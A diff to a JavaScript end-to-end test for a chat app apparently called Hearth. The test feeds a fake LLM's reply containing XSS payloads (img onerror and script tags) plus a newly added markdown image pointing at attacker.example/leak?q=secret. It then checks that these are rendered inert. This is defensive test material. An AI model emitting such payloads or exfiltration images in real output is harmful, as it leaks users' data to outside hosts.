@@ -151,6 +151,8 @@ describe('chat against the real server and a fake LLM', { timeout: 300_000 }, ()
       '```',
       '',
       '<img src=x onerror="document.title=\'pwned\'"> and <script>document.title=\'pwned\'</script> end',
+      '',
+      '![tracking pixel](https://attacker.example/leak?q=secret)',
     ].join('\n');
     await pushScript({ steps: [{ text }] });
     await send('show me some code');
@@ -158,7 +160,7 @@ describe('chat against the real server and a fake LLM', { timeout: 300_000 }, ()
     await answer.locator('strong', { hasText: 'bold' }).waitFor();
     await answer.locator('.code-block code.language-js .hljs-keyword', { hasText: 'const' }).waitFor();
     await waitIdle();
-    assert.equal(await answer.locator('img, script').count(), 0);
+    assert.equal(await answer.locator('script, img[src]').count(), 0, 'no script, no image that loads from elsewhere');
     assert.match(await answer.innerText(), /<img src=x onerror=/);
     assert.equal(await page.title(), 'Hearth');
 
